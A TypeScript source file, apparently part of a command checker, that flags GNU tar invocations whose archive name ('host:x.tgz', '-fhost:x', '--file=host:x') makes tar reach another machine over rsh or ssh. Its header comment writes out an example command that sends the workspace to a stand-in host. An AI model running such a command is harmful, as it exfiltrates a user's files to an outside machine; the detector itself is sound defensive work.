/**
 * GNU tar reads an archive name with a colon before any slash (`host:a.tar`, `u@host:a.tar`) as a
 * file on another machine and runs rsh (ssh where rsh is its alias) to reach it: `tar czf
 * evil.example:x.tgz .` sends the workspace there. `--force-local` makes it a local name.
 */

/** What tar's short options take a value in the same word or the next (`-fNAME`, `-C DIR`). */
const valued = "bCfgHKLNTVX";
const remote = /^[^/]*:/;

/** The first archive name tar would read as remote, as `riskyOption` reports it; undefined when none. */
export function remoteArchive(words: readonly (string | undefined)[]): string | undefined {
  const forceLocal = words.some((w) => w !== undefined && w.length >= 7 && "--force-local".startsWith(w));
  if (forceLocal) return undefined;
  for (const word of words.slice(1)) {
    if (word === undefined) continue;
    // Any operand or option value may be the archive: `tar czf host:x src`, `-fhost:x`, `--file=host:x`.
    const value = word.startsWith("--") ? fileValue(word) : word.startsWith("-") ? shortValue(word) : word;
    if (value !== undefined && remote.test(value)) return `an archive on another machine (${value}), which tar reaches by running rsh or ssh`;
  }
  return undefined;
}

/** The value of `--file=NAME` (or an abbreviation of `--file`); other long options' values are no archive. */
function fileValue(word: string): string | undefined {
  const [name, ...rest] = word.split("=");
  return rest.length > 0 && name!.length >= 5 && "--file".startsWith(name!) ? rest.join("=") : undefined;
}

/** What follows the first letter that takes a value in a bundle of short options (`-tvfhost:x`). */
function shortValue(word: string): string | undefined {
  const at = [...word.slice(1)].findIndex((letter) => valued.includes(letter));
  return at < 0 ? undefined : word.slice(at + 2);
}
